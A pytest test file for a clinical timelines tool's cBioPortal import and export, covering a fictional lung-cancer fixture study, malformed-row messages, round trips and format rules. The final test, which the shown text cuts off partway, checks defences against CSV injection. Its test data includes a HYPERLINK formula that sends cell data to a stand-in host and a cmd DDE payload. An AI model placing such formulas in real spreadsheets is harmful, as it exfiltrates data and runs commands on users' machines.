"""cBioPortal studies in and out: the fixture study of tests/cbioportal, malformed rows, and the round trip."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest

from timelines import load_case
from timelines.cbioportal.study import DAY_ZERO_NOTE, UNNAMED_CANCER, case_timeline, case_yaml, read_study, relative_day
from timelines.cbioportal.write import first_diagnosis_day, write_study
from timelines.cli import main
from timelines.saving import storage
from timelines.tables import event_table, marker_table, measurement_table

from conftest import CASE_FILES, CASES, ROOT

STUDY = ROOT / "tests" / "cbioportal"
TAB = "\t"


@pytest.fixture(scope="module")
def study():
    return read_study(STUDY)


def has(event: dict, fields: dict) -> bool:
    return all(event.get(name) == value for name, value in fields.items())


def events_of(document: dict, kind: str) -> list[dict]:
    return [e for e in document["events"] if e["kind"] == kind]


def copy_study(tmp_path: Path, **files: str) -> Path:
    """The fixture study in tmp_path, with files replaced (name -> text) or removed (name -> None)."""
    folder = tmp_path / "study"
    shutil.copytree(STUDY, folder)
    for name, text in files.items():
        path = folder / f"{name}.txt"
        if text is None:
            path.unlink()
        else:
            path.write_text(text, encoding="utf-8")
    return folder


# ---------------------------------------------------------------- the fixture study

def test_every_patient_of_the_study_is_a_valid_case_and_nothing_is_a_problem(study):
    assert study.problems == [] and study.patients_with_problems == set()
    assert list(study.cases) == ["LUNG-001", "LUNG-002", "LUNG-003", "LUNG-004"]
    for document in study.cases.values():
        timeline = case_timeline(document, f"{document['id']}.yaml")
        assert not timeline.on_calendar
    assert study.study["cancer_study_identifier"] == "lung_timeline_demo"


def test_day_zero_is_the_diagnosis_every_other_date_whole_days_from_it(study):
    document = study.cases["LUNG-001"]
    assert document["origin"] == "dx"
    assert document["diagnoses"] == [{
        "id": "dx", "label": "Lung adenocarcinoma, EGFR exon 19 deletion", "date": "origin", "stage": "IVA",
        "provenance": "data_timeline_diagnosis.txt:2", "note": DAY_ZERO_NOTE}]  # STAGE names a field: stage
    assert "in days from the date of diagnosis (which will act as point zero on the timeline scale)" in DAY_ZERO_NOTE
    dates = [e.get("date") or e.get("start") for e in document["events"]]
    assert all(re.fullmatch(r"dx( [+-] \d+ days?)?", d) for d in dates)
    assert [relative_day("dx", n) for n in (0, 1, -1, 30)] == ["dx", "dx + 1 day", "dx - 1 day", "dx + 30 days"]


def test_the_diagnosis_label_comes_from_the_clinical_files_else_says_it_is_not_given(study):
    assert study.cases["LUNG-002"]["diagnoses"][0]["label"] == "Lung Squamous Cell Carcinoma"  # CANCER_TYPE_DETAILED
    assert study.cases["LUNG-003"]["diagnoses"][0]["label"] == "Non-Small Cell Lung Cancer"  # CANCER_TYPE only
    assert study.cases["LUNG-004"]["diagnoses"][0]["label"] == UNNAMED_CANCER  # in one timeline file only


def test_a_combination_is_one_regimen_and_radiation_therapy_is_radiotherapy(study):
    chemo = events_of(study.cases["LUNG-001"], "chemotherapy")[0]
    assert (chemo["regimen"], chemo["agents"]) == ("Carboplatin + Pemetrexed", ["Carboplatin", "Pemetrexed"])
    assert (chemo["start"], chemo["end"]) == ("dx + 14 days", "dx + 98 days")
    assert chemo["attributes"]["AGENT_CLASS"] == "Platinum doublet"  # an unknown column is kept
    assert chemo["provenance"] == "data_timeline_treatment.txt:2"
    tmz = events_of(study.cases["LUNG-002"], "chemotherapy")[0]
    assert (tmz["regimen"], tmz["agents"]) == ("TMZ, thalidomide", ["TMZ", "thalidomide"])
    radiation = events_of(study.cases["LUNG-001"], "radiotherapy")[0]
    assert (radiation["technique"], radiation["start"], radiation["end"]) == ("SBRT", "dx - 10 days", "dx - 3 days")
    assert radiation["attributes"]["AGENT"] == "50 Gy in 5 fractions"


def test_a_therapy_without_stop_date_has_an_end_not_reported_and_other_events_are_points(study):
    osimertinib = events_of(study.cases["LUNG-001"], "targeted")[0]
    assert osimertinib["start"] == "dx + 120 days" and not {"end", "duration", "ongoing", "date"} & set(osimertinib)
    timeline = case_timeline(study.cases["LUNG-001"], "lung-001.yaml")
    row = event_table(timeline).set_index("kind").loc["targeted"]
    assert row["end_precision"] == "not reported" and not row["ongoing"]
    assert events_of(study.cases["LUNG-001"], "imaging")[0]["date"] == "dx - 5 days"


def test_status_rows_become_status_response_or_progression_when_the_words_say_so(study):
    events = {e["provenance"]: e for e in study.cases["LUNG-002"]["events"]}
    assert events["data_timeline_status.txt:3"]["kind"] == "progression"
    assert has(events["data_timeline_status.txt:4"], {"kind": "status", "status": "dead"})
    assert events["data_timeline_status.txt:4"]["attributes"]["STATUS"] == "Deceased"  # the words kept
    assert has(events["data_timeline_status.txt:5"], {"kind": "response", "category": "PR",
                                                      "description": "Partial Response"})
    hospice = study.cases["LUNG-003"]["events"][-1]
    assert has(hospice, {"kind": "other", "type": "STATUS", "description": "Hospice referral"})


def test_unknown_types_and_unclear_therapies_are_other_events_never_dropped(study):
    board = events_of(study.cases["LUNG-001"], "other")[0]
    assert has(board, {"type": "Tumor Board", "date": "dx + 7 days",
                       "attributes": {"DECISION": "First-line chemotherapy"}})
    drug_x = events_of(study.cases["LUNG-002"], "other")[0]
    assert has(drug_x, {"type": "TREATMENT", "start": "dx + 250 days", "description": "Drug X"})
    assert drug_x["attributes"]["SUBTYPE"] == "Investigational"


def test_specimens_labs_imaging_and_surgery_map_to_their_kinds(study):
    first, second = study.cases["LUNG-001"], study.cases["LUNG-002"]
    biopsy = events_of(first, "biopsy")[0]
    assert biopsy["site"] == "Left lower lobe" and biopsy["attributes"]["SAMPLE_ID"] == "LUNG-001-T1"
    labs = [e["values"][0] for e in events_of(first, "lab")]
    assert labs == [{"marker": "CEA", "value": 12.4}, {"marker": "CEA", "value": 3.1},
                    {"marker": "EGFR ctDNA", "finding": "not detected"}]
    scan = events_of(first, "imaging")[0]
    assert (scan["modality"], scan["finding"]) == ("CT", "Left lower lobe mass 4.1 cm")
    assert scan["attributes"] == {"DIAGNOSTIC_TYPE_DETAILED": "CT chest abdomen pelvis", "STYLE_SHAPE": "square"}
    assert events_of(second, "surgery")[0]["procedure"] == "Right upper lobectomy"
    assert events_of(first, "diagnosis")[0]["label"] == "Small cell transformation"


def test_the_clinical_patient_file_fills_the_patient_and_keeps_the_rest(study):
    patient = study.cases["LUNG-001"]["patient"]
    assert (patient["sex"], patient["age"]) == ("female", 58)
    assert patient["attributes"] == {"OS_STATUS": "0:LIVING", "OS_MONTHS": "31.2", "SMOKING_HISTORY": "Never"}
    assert study.cases["LUNG-003"]["patient"]["attributes"]["AGE"] == "[Not Available]"


def test_the_case_file_written_for_a_patient_loads_and_shows_provenance_and_attributes(study, tmp_path):
    path = tmp_path / "lung-001.yaml"
    path.write_text(case_yaml(study.cases["LUNG-001"]), encoding="utf-8")
    events = event_table(load_case(path))
    chemo = events[events["kind"] == "chemotherapy"].iloc[0]
    assert "AGENT_CLASS: Platinum doublet" in chemo["details"]
    assert chemo["details"].endswith("provenance: data_timeline_treatment.txt:2")


def test_a_study_without_clinical_file_still_imports_every_patient(tmp_path):
    folder = copy_study(tmp_path, data_clinical_patient=None, meta_clinical_patient=None)
    study = read_study(folder)
    assert study.problems == [] and len(study.cases) == 4
    assert "patient" not in study.cases["LUNG-001"]


@pytest.mark.parametrize("patient, expected", [
    ("CON", "con-case"), ("lpt1", "lpt1-case"),  # Windows device names: no file can be named so there
    ("P-0001_A", "p-0001-a"), ("P--7", "p-7"), ("___", "patient"),
    ("A" * 50 + "_" + "B" * 50, "a" * 50),  # at most 80 characters, a word left out whole
])
def test_a_patient_id_becomes_the_case_id_the_editor_would_suggest_and_can_save(tmp_path, patient, expected):
    (tmp_path / "data_timeline_status.txt").write_text(
        f"PATIENT_ID{TAB}START_DATE{TAB}STOP_DATE{TAB}EVENT_TYPE{TAB}STATUS\n{patient}{TAB}0{TAB}{TAB}STATUS{TAB}Alive\n",
        encoding="utf-8")
    case_id = read_study(tmp_path).cases[patient]["id"]
    assert case_id == expected == (storage.suggest_case_id(patient) or "patient")
    assert storage.check_case_id(case_id) == expected


def test_only_the_patients_asked_for_are_read_and_progress_is_reported(study):
    seen = []
    only = read_study(STUDY, patients=["LUNG-002"], progress=lambda done, total: seen.append((done, total)))
    assert list(only.cases) == ["LUNG-002"] and only.cases["LUNG-002"] == study.cases["LUNG-002"]
    assert seen[-1] == (study.rows, study.rows) == (only.rows, only.rows)


def test_the_short_header_without_stop_date_is_read_as_the_importer_does(tmp_path):
    folder = copy_study(tmp_path, data_timeline_labs=f"PATIENT_ID{TAB}START_DATE{TAB}EVENT_TYPE{TAB}TEST{TAB}RESULT\n"
                                                     f"LUNG-001{TAB}5{TAB}LAB_TEST{TAB}CEA{TAB}7\n")
    study = read_study(folder)
    assert study.problems == []
    assert events_of(study.cases["LUNG-001"], "lab")[0]["date"] == "dx + 5 days"


# ---------------------------------------------------------------- malformed rows

LABS = "data_timeline_labs"
HEADER = f"PATIENT_ID{TAB}START_DATE{TAB}STOP_DATE{TAB}EVENT_TYPE{TAB}TEST{TAB}RESULT"
GOOD = f"LUNG-002{TAB}5{TAB}{TAB}LAB_TEST{TAB}CEA{TAB}4"


@pytest.mark.parametrize("row, message, patient", [
    (f"LUNG-001{TAB}NA{TAB}{TAB}LAB_TEST{TAB}CEA{TAB}3",
     "data_timeline_labs.txt:3: START_DATE: 'NA' is not a whole number of days. Hint: write days since the diagnosis "
     "as a whole number (negative before it), e.g. 14 or -30", "LUNG-001"),
    (f"LUNG-001{TAB}{TAB}{TAB}LAB_TEST{TAB}CEA{TAB}3",
     "data_timeline_labs.txt:3: START_DATE: '' is not a whole number of days. Hint: write days since the diagnosis "
     "as a whole number (negative before it), e.g. 14 or -30", "LUNG-001"),
    (f"LUNG-001{TAB}2.5{TAB}{TAB}LAB_TEST{TAB}CEA{TAB}3",
     "data_timeline_labs.txt:3: START_DATE: '2.5' is not a whole number of days. Hint: write days since the "
     "diagnosis as a whole number (negative before it), e.g. 14 or -30", "LUNG-001"),
    (f"LUNG-001{TAB}3{TAB}later{TAB}LAB_TEST{TAB}CEA{TAB}3",
     "data_timeline_labs.txt:3: STOP_DATE: 'later' is not a whole number of days. Hint: write days since the "
     "diagnosis as a whole number (negative before it), e.g. 14 or -30, or leave it empty for an event on one day",
     "LUNG-001"),
    (f"LUNG-001{TAB}30{TAB}10{TAB}LAB_TEST{TAB}CEA{TAB}3",
     "data_timeline_labs.txt:3: STOP_DATE: 10 is before START_DATE 30. Hint: swap the two, or correct the one that "
     "is wrong", "LUNG-001"),
    (f"LUNG-001{TAB}3{TAB}{TAB}{TAB}CEA{TAB}3",
     "data_timeline_labs.txt:3: EVENT_TYPE: empty. Hint: name the type, e.g. TREATMENT, STATUS", "LUNG-001"),
    (f"{TAB}3{TAB}{TAB}LAB_TEST{TAB}CEA{TAB}3",
     "data_timeline_labs.txt:3: PATIENT_ID: empty. Hint: every row names its patient", None),
    (f"LUNG 001{TAB}3{TAB}{TAB}LAB_TEST{TAB}CEA{TAB}3",
     "data_timeline_labs.txt:3: PATIENT_ID: 'LUNG 001' has a character other than letters, digits, '.', '_' and "
     "'-'. Hint: write the id as the clinical file does", "LUNG 001"),
    (f"LUNG-001{TAB}3{TAB}{TAB}LAB_TEST{TAB}CEA",
     "data_timeline_labs.txt:3: expected 6 columns as the header (line 1) has, found 5. Hint: separate the cells "
     "with one tab each and leave an empty cell empty, not out", "LUNG-001"),
    (f"LUNG-001{TAB}3{TAB}{TAB}LAB_TEST{TAB}CEA{TAB}3{TAB}extra",
     "data_timeline_labs.txt:3: expected 6 columns as the header (line 1) has, found 7. Hint: separate the cells "
     "with one tab each and leave an empty cell empty, not out", "LUNG-001"),
    ("", "data_timeline_labs.txt:3: blank line. Hint: delete it", None),
    (f"#LUNG-001{TAB}3{TAB}{TAB}LAB_TEST{TAB}CEA{TAB}3",
     "data_timeline_labs.txt:3: a data line starts with '#'. Hint: only the lines above the header may be comments; "
     "delete the '#' or the line", None),
    (HEADER, "data_timeline_labs.txt:3: the header is repeated. Hint: delete this line", None),
], ids=["NA", "empty-start", "fraction", "stop-word", "stop-before-start", "no-type", "no-patient",
        "bad-patient-id", "too-few-cells", "too-many-cells", "blank-line", "hash-line", "repeated-header"])
def test_a_malformed_row_is_a_located_problem_and_the_good_patients_still_import(tmp_path, row, message, patient):
    folder = copy_study(tmp_path, **{LABS: f"{HEADER}\n{GOOD}\n{row}\n"})
    study = read_study(folder)
    assert study.problems == [message]
    assert study.patients_with_problems == ({patient} if patient else set())
    assert ("LUNG-001" in study.cases) == (patient != "LUNG-001")
    assert events_of(study.cases["LUNG-002"], "lab")[0]["values"] == [{"marker": "CEA", "value": 4}]


@pytest.mark.parametrize("name, text, message", [
    ("data_timeline_treatment",
     f"PATIENT_ID{TAB}START_DATE{TAB}STOP_DATE{TAB}EVENT_TYPE{TAB}STYLE_COLOR\nLUNG-001{TAB}1{TAB}{TAB}TREATMENT{TAB}red\n",
     "data_timeline_treatment.txt:2: STYLE_COLOR: 'red' is not a colour like #1f77b4. Hint: write '#' and six hex "
     "digits on every row, or leave the column out"),
    ("data_timeline_treatment",
     f"PATIENT_ID{TAB}START_DATE{TAB}STOP_DATE{TAB}EVENT_TYPE{TAB}STYLE_COLOR\nLUNG-001{TAB}1{TAB}{TAB}TREATMENT{TAB}\n",
     "data_timeline_treatment.txt:2: STYLE_COLOR: '' is not a colour like #1f77b4. Hint: write '#' and six hex "
     "digits on every row, or leave the column out"),
    ("data_timeline_imaging",
     f"PATIENT_ID{TAB}START_DATE{TAB}STOP_DATE{TAB}EVENT_TYPE{TAB}STYLE_SHAPE\nLUNG-001{TAB}1{TAB}{TAB}IMAGING{TAB}hexagon\n",
     "data_timeline_imaging.txt:2: STYLE_SHAPE: 'hexagon' is not a shape cBioPortal draws. Hint: give one on every "
     "row, or leave the column out. Valid: circle, square, triangle, diamond, star, camera"),
    ("data_timeline_imaging",
     f"PATIENT_ID{TAB}EVENT_TYPE{TAB}START_DATE{TAB}STOP_DATE\nLUNG-001{TAB}IMAGING{TAB}1{TAB}\n",
     "data_timeline_imaging.txt: the header must begin PATIENT_ID, START_DATE, STOP_DATE, EVENT_TYPE in this order; "
     "it begins PATIENT_ID, EVENT_TYPE, START_DATE, STOP_DATE. Hint: put the four required columns first"),
    ("data_timeline_imaging",
     f"PATIENT_ID{TAB}START_DATE{TAB}STOP_DATE{TAB}EVENT_TYPE{TAB}RESULT{TAB}RESULT\nLUNG-001{TAB}1{TAB}{TAB}IMAGING{TAB}a{TAB}b\n",
     "data_timeline_imaging.txt:1: column RESULT is repeated in the header. Hint: give each column once"),
], ids=["style-color", "style-color-empty", "style-shape", "header-order", "repeated-column"])
def test_a_row_or_header_the_validator_rejects_leaves_out_the_patients_it_names(tmp_path, name, text, message):
    study = read_study(copy_study(tmp_path, **{name: text}))
    assert study.problems == [message]
    assert study.patients_with_problems == {"LUNG-001"} and "LUNG-001" not in study.cases
    assert {"LUNG-002", "LUNG-003", "LUNG-004"} <= set(study.cases)


def test_a_file_that_is_not_utf8_is_a_problem_and_the_rest_of_the_study_imports(tmp_path):
    folder = copy_study(tmp_path)
    (folder / "data_timeline_labs.txt").write_bytes(f"{HEADER}\nLUNG-001{TAB}1{TAB}{TAB}LAB_TEST{TAB}\xb5g{TAB}3\n"
                                                     .encode("latin-1"))
    study = read_study(folder)
    assert study.problems == ["data_timeline_labs.txt: byte 76 is not UTF-8 text. Hint: save the file as UTF-8"]
    assert len(study.cases) == 4


def test_the_command_writes_the_good_patients_and_exits_1_with_a_count(tmp_path, capsys):
    bad = f"{HEADER}\n{GOOD}\nLUNG-001{TAB}NA{TAB}{TAB}LAB_TEST{TAB}CEA{TAB}3\n"
    folder = copy_study(tmp_path, **{LABS: bad})
    assert main(["import-cbioportal", str(folder), "--out", str(tmp_path / "cases")]) == 1
    err = capsys.readouterr().err
    assert "data_timeline_labs.txt:3: START_DATE: 'NA' is not a whole number of days." in err
    assert err.strip().endswith("3 case files written to " + str(tmp_path / "cases") +
                                "; 1 problem, 1 patient left out")
    assert sorted(p.name for p in (tmp_path / "cases").iterdir()) == [".timelines-written.json", "lung-002.yaml",
                                                                     "lung-003.yaml", "lung-004.yaml"]
    assert main(["validate", str(tmp_path / "cases")]) == 0


def test_the_command_exits_0_for_a_clean_study(tmp_path, capsys):
    assert main(["import-cbioportal", str(STUDY), "--out", str(tmp_path)]) == 0
    assert capsys.readouterr().err.endswith("4 case files written to " + str(tmp_path) +
                                            "; 0 problems, 0 patients left out\n")


# ---------------------------------------------------------------- out, and back in

ROUND_TRIP_CASES = CASE_FILES + [CASES / "_template.yaml"]
TYPED = ["kind", "day_start", "day_end", "label", "agent", "dose", "line", "ongoing", "intent", "status",
         "response_category", "trend", "finding"]
# An uncertain date comes back as its window, drawn where the imported case draws it: the windows and drawn days of
# the bundled cases are compared event by event in test_cbioportal_windows.py.
VALUES = [c for c in TYPED if c not in ("day_start", "day_end")]


def _days_from_first_diagnosis(table, zero):
    table = table.copy()
    for column in ("day_start", "day_end"):
        table[column] = table[column] - zero
    return table


def _same(table, columns):
    keep = table[columns].astype(str)
    return keep.sort_values(columns).reset_index(drop=True)


@pytest.mark.slow
@pytest.mark.parametrize("path", ROUND_TRIP_CASES, ids=lambda p: p.stem)
def test_import_of_export_gives_back_the_same_events_days_and_values(tmp_path, path):
    original = load_case(path)
    write_study([original], tmp_path)
    study = read_study(tmp_path)
    assert study.problems == []
    again = case_timeline(study.cases[original.case.id], f"{original.case.id}.yaml")
    zero = first_diagnosis_day(original)
    before = _days_from_first_diagnosis(event_table(original), zero)
    assert _same(event_table(again), VALUES).equals(_same(before, VALUES))
    markers = ["marker", "value", "unit", "ref_low", "ref_high", "flag", "finding", "group"]
    assert _same(marker_table(again), markers).equals(_same(marker_table(original), markers))
    lesions = ["lesion_id", "size_text", "longest_mm", "change"]
    assert _same(measurement_table(again), lesions).equals(_same(measurement_table(original), lesions))
    assert again.case.patient == original.case.patient
    assert (again.case.reported, again.case.lesions, again.case.notes, again.case.source) == \
        (original.case.reported, original.case.lesions, original.case.notes, original.case.source)


def test_a_lab_event_of_several_values_is_one_event_again_naming_each_row(tmp_path):
    original = load_case(CASES / "_template.yaml")
    write_study([original], tmp_path)
    again = case_timeline(read_study(tmp_path).cases[original.case.id], f"{original.case.id}.yaml")
    labs = [(e, b) for e, b in zip(original.case.events, again.case.events) if e.kind == "lab"]
    assert labs and all(e.values == b.values for e, b in labs)
    several = next(b for e, b in labs if len(e.values) > 1)
    assert re.fullmatch(r"data_timeline_lab_test\.txt:\d+(, data_timeline_lab_test\.txt:\d+)+", several.provenance)


def test_dose_changes_come_back_on_their_days(tmp_path):
    path = next(p for p in CASE_FILES if "dose_changes" in p.read_text())
    original = load_case(path)
    write_study([original], tmp_path)
    again = case_timeline(read_study(tmp_path).cases[original.case.id], f"{original.case.id}.yaml")
    from timelines.tables import dose_change_table

    zero = first_diagnosis_day(original)
    assert list(dose_change_table(again)["day_start"]) == list(dose_change_table(original)["day_start"] - zero)
    assert list(dose_change_table(again)["dose"]) == list(dose_change_table(original)["dose"])


# ---------------------------------------------------------------- the format's rules, on an export

@pytest.fixture(scope="module")
def exported(tmp_path_factory):
    out = tmp_path_factory.mktemp("study")
    lost = write_study([load_case(p) for p in ROUND_TRIP_CASES], out)
    return out, lost


def meta(path: Path) -> dict:
    return dict(line.split(": ", 1) for line in path.read_text().splitlines())


def test_every_data_file_has_its_meta_file_with_the_fields_the_format_requires(exported):
    out, _ = exported
    study = meta(out / "meta_study.txt")
    assert {"type_of_cancer", "cancer_study_identifier", "name", "description"} <= set(study)
    metas = {p.name: meta(p) for p in out.glob("meta_*.txt") if p.name != "meta_study.txt"}
    named = {m["data_filename"] for m in metas.values()}
    assert named == {p.name for p in out.glob("data_*.txt")}
    for m in metas.values():
        assert m["cancer_study_identifier"] == study["cancer_study_identifier"]
        assert m["genetic_alteration_type"] == "CLINICAL"
        assert m["datatype"] in ("TIMELINE", "PATIENT_ATTRIBUTES", "SAMPLE_ATTRIBUTES")
        assert (m["datatype"] == "TIMELINE") == m["data_filename"].startswith("data_timeline_")


def test_the_clinical_files_have_four_header_lines_then_the_columns_and_no_empty_cell(exported):
    out, _ = exported
    for name, first in (("data_clinical_patient.txt", ["PATIENT_ID"]),
                        ("data_clinical_sample.txt", ["PATIENT_ID", "SAMPLE_ID"])):
        lines = (out / name).read_text().splitlines()
        assert all(line.startswith("#") for line in lines[:4]) and not lines[4].startswith("#")
        columns = lines[4].split(TAB)
        assert columns[:len(first)] == first and columns == [c.upper() for c in columns]
        assert all(len(line.split(TAB)) == len(columns) for line in lines[:4] + lines[5:])
        assert set(lines[2][1:].split(TAB)) <= {"STRING", "NUMBER", "BOOLEAN"}
        assert all("" not in line.split(TAB) for line in lines[5:])


def test_every_timeline_file_holds_one_event_type_with_whole_days_in_the_required_columns(exported):
    out, _ = exported
    for path in out.glob("data_timeline_*.txt"):
        lines = path.read_text(encoding="utf-8").splitlines()
        columns = lines[0].split(TAB)
        assert columns[:4] == ["PATIENT_ID", "START_DATE", "STOP_DATE", "EVENT_TYPE"]
        rows = [line.split(TAB) for line in lines[1:]]
        assert rows and all(len(r) == len(columns) for r in rows)
        assert len({r[3] for r in rows}) == 1
        assert all(re.fullmatch(r"-?\d+", r[1]) and re.fullmatch(r"(-?\d+)?", r[2]) for r in rows)
        assert all(int(r[2]) >= int(r[1]) for r in rows if r[2])
        assert not {"STYLE_COLOR", "STYLE_SHAPE"} & set(columns)


def test_what_the_format_cannot_hold_is_said(exported):
    _, lost = exported
    assert any(line.startswith("lcnec-alk-lorlatinib: day 0: the case counts from its origin (lcnec)") for line in lost)
    assert any(line.startswith("ppamn-hmbox1-alk-ensartinib: calendar dates:") for line in lost)


def test_the_export_command_writes_the_study_and_says_what_is_not_carried(tmp_path, capsys):
    assert main(["export-cbioportal", str(CASE_FILES[0]), "--out", str(tmp_path)]) == 0
    err = capsys.readouterr().err
    assert "not carried: every patient has one sample" in err
    assert err.endswith(f"1 case written to {tmp_path} as a cBioPortal study\n")
    assert (tmp_path / "data_timeline_treatment.txt").is_file()


@pytest.mark.slow
@pytest.mark.skipif(not os.environ.get("CBIOPORTAL_IMPORTER"),
                    reason="set CBIOPORTAL_IMPORTER to cbioportal-core's scripts/ folder to run its validator")
@pytest.mark.parametrize("which", ["export", "fixture"])
def test_cbioportals_own_validator_accepts_the_export_and_the_fixture(exported, which):
    """validateData.py -n (no portal): 'succeeded with warnings' (exit 3) is a pass; its warnings are about the
    portal checks it skips, survival columns and apostrophes the TSV sniffer takes for quotes."""
    folder = exported[0] if which == "export" else STUDY
    stubs = Path(__file__).parent / "cbioportal_stubs"  # dsnparse, needed only to reach a database
    result = subprocess.run([sys.executable, "-m", "importer.validateData", "-s", str(folder), "-n"],
                            cwd=os.environ["CBIOPORTAL_IMPORTER"], capture_output=True, text=True, timeout=300,
                            env={**os.environ, "PYTHONPATH": f"{stubs}{os.pathsep}."})
    assert result.returncode in (0, 3), result.stdout[-3000:] + result.stderr[-3000:]
    assert "ERROR" not in result.stdout + result.stderr


# ---------------------------------------------------------------- speed

@pytest.mark.slow
def test_reading_is_vectorised_enough_for_large_studies(tmp_path):
    """60,000 rows of 1,500 patients in a few seconds (3 million rows: see the report in bench/)."""
    folder = tmp_path / "big"
    folder.mkdir()
    rows = [f"P{p:05d}{TAB}{d * 7}{TAB}{d * 7 + 5 if d % 3 == 0 else ''}{TAB}TREATMENT{TAB}Medical Therapy{TAB}"
            f"Chemotherapy{TAB}Drug {d % 5}" for p in range(1_500) for d in range(40)]
    (folder / "data_timeline_treatment.txt").write_text(
        f"PATIENT_ID{TAB}START_DATE{TAB}STOP_DATE{TAB}EVENT_TYPE{TAB}TREATMENT_TYPE{TAB}SUBTYPE{TAB}AGENT\n"
        + "\n".join(rows) + "\n")
    started = time.perf_counter()
    study = read_study(folder)
    assert len(study.cases) == 1_500 and study.rows == 60_000 and study.problems == []
    assert time.perf_counter() - started < 15


# ---------------------------------------------------------------- the dashboard's Export box

@pytest.mark.slow
def test_the_export_box_offers_the_study_as_a_zip_that_reads_back(tmp_path):
    import io
    import zipfile

    from components import exports
    from components.pages import cache
    from components.pages.downloads import export_files
    from timelines.presentation import View
    from timelines.reading.files import stamp

    path = str(CASE_FILES[0])
    shown = [name for _, name in export_files(cache.export_case(path, stamp(path), View(axis="relative")))]
    hidden = [name for _, name in export_files(cache.export_case(path, stamp(path), View(axis="relative",
                                                                                          deidentified=True)))]
    assert shown[-1] == "cbioportal.zip" and "cbioportal.zip" not in hidden  # a study carries quotes and source
    data = cache.export_file(path, stamp(path), View(axis="relative"), "cbioportal.zip")
    assert data == exports.cbioportal_zip(load_case(path))  # no export date inside: the same bytes every time
    archive = zipfile.ZipFile(io.BytesIO(data))
    folder = CASE_FILES[0].stem.replace("-", "_")
    assert f"{folder}/meta_study.txt" in archive.namelist() and f"{folder}/NOT_CARRIED.txt" in archive.namelist()
    archive.extractall(tmp_path)
    study = read_study(tmp_path / folder)
    assert study.problems == [] and list(study.cases) == [CASE_FILES[0].stem]
    assert study.study["cancer_study_identifier"] == folder


def test_a_patient_whose_only_row_is_bad_is_named_among_the_patients_with_problems(tmp_path):
    # As cbioportal-core's tests/test_data/data_timeline_invalid_start_date.txt: an empty and an 'NA' START_DATE.
    folder = tmp_path / "study"
    folder.mkdir()
    (folder / "data_timeline.txt").write_text(f"PATIENT_ID{TAB}START_DATE{TAB}STOP_DATE{TAB}EVENT_TYPE\n"
                                              f"P-1{TAB}{TAB}85{TAB}TREATMENT\nP-2{TAB}NA{TAB}85{TAB}TREATMENT\n"
                                              f"P-2{TAB}17{TAB}85{TAB}TREATMENT\n")
    study = read_study(folder)
    assert study.patients_with_problems == {"P-1", "P-2"} and study.cases == {} and len(study.problems) == 2


def test_a_file_of_comments_only_is_a_problem(tmp_path):
    study = read_study(copy_study(tmp_path, **{LABS: "#only a comment\n"}))
    assert study.problems == ["data_timeline_labs.txt: no column header or data found. Hint: the first line not "
                              "starting with '#' names the columns"]


@pytest.mark.slow
def test_a_study_of_every_bundled_case_reads_back_one_valid_case_each(exported):
    out, _ = exported
    study = read_study(out)
    assert study.problems == [] and sorted(study.cases) == sorted(load_case(p).case.id for p in ROUND_TRIP_CASES)
    for patient, document in study.cases.items():
        assert case_timeline(document, f"{patient}.yaml").case.id == patient


def test_a_studys_own_id_and_type_columns_are_attributes_never_ids_or_types_of_ours(tmp_path):
    folder = copy_study(tmp_path, data_timeline_tumor_board=(
        f"PATIENT_ID{TAB}START_DATE{TAB}STOP_DATE{TAB}EVENT_TYPE{TAB}ID{TAB}TYPE{TAB}STAGE\n"
        f"LUNG-001{TAB}7{TAB}{TAB}Tumor Board{TAB}TB1{TAB}weekly{TAB}IV\n"
        f"LUNG-001{TAB}9{TAB}{TAB}Tumor Board{TAB}TB1{TAB}weekly{TAB}IV\n"))
    study = read_study(folder)
    boards = events_of(study.cases["LUNG-001"], "other")
    assert [(b["type"], b["attributes"]) for b in boards] == [
        ("Tumor Board", {"ID": "TB1", "TYPE": "weekly", "STAGE": "IV"})] * 2
    case_timeline(study.cases["LUNG-001"], "lung-001.yaml")  # two rows with one ID: still a valid case


def test_an_imported_study_exported_and_imported_again_keeps_its_events_and_attributes(study, tmp_path):
    first = {p: case_timeline(d, f"{d['id']}.yaml") for p, d in study.cases.items()}
    write_study(list(first.values()), tmp_path)
    again = read_study(tmp_path)
    assert again.problems == []
    for timeline in first.values():
        back = case_timeline(again.cases[timeline.case.id], f"{timeline.case.id}.yaml")
        assert _same(event_table(back), TYPED).equals(_same(event_table(timeline), TYPED))
        attributes = [e.attributes for e in timeline.case.events]
        assert [e.attributes and {k: v for k, v in e.attributes.items() if k != "PROVENANCE"} or None
                for e in back.case.events] == attributes  # the study's own columns, every one
        assert {e.attributes["PROVENANCE"] for e in back.case.events} == {e.provenance for e in timeline.case.events}


def test_a_style_only_some_events_of_a_type_have_is_kept_under_another_column_and_read_back(study, tmp_path):
    imported = case_timeline(study.cases["LUNG-001"], "lung-001.yaml")
    lost = write_study([imported, load_case(CASE_FILES[0])], tmp_path)
    assert any(line.startswith("TREATMENT: STYLE_COLOR is given for 3 of 8 events;") for line in lost)
    header = (tmp_path / "data_timeline_treatment.txt").read_text().splitlines()[0].split(TAB)
    assert "STYLE_COLOR" not in header and "STYLE_COLOR_GIVEN" in header
    back = case_timeline(read_study(tmp_path).cases["lung-001"], "lung-001.yaml")
    chemo = next(e for e in back.case.events if e.kind == "chemotherapy")
    assert chemo.attributes["STYLE_COLOR"] == "#1f77b4"


def test_patient_attributes_and_case_texts_with_quotes_and_line_breaks_come_back(tmp_path):
    document = dict(read_study(STUDY).cases["LUNG-002"])
    document["patient"] = {**document["patient"], "attributes": {"SEX": "M", "NOTE": 'said "no"\tthen\nleft'}}
    document["notes"] = ['A note with "quotes", a back\\slash and\na line break']
    original = case_timeline(document, "lung-002.yaml")
    write_study([original], tmp_path)
    back = case_timeline(read_study(tmp_path).cases["lung-002"], "lung-002.yaml")
    assert back.case.patient == original.case.patient and back.case.notes == original.case.notes


def test_formulas_go_out_quoted_in_the_tsvs_and_come_back_as_written(tmp_path):
    """OWASP CSV injection: every text cell of the study that a spreadsheet would run gets a leading quote (days
    and other numbers stay numbers); the reader takes exactly that quote off again."""
    import yaml

    from conftest import make_case, make_event

    texts = {"label": "=HYPERLINK(\"http://x.example/?\"&A1)", "quote": "+cmd|' /C calc'!A0", "note": "@SUM(1)",
             "dose": "-5 mg", "regimen": "'=already quoted"}
    document = make_case(make_event(kind="chemotherapy", drug=None, attributes={"FLAG_TEXT": "-x"}, **texts),
                         title="=1+1 case")
    document["diagnoses"][0]["date"] = "2021-09-01"
    (tmp_path / "example.yaml").write_text(yaml.safe_dump(document, sort_keys=False), encoding="utf-8")
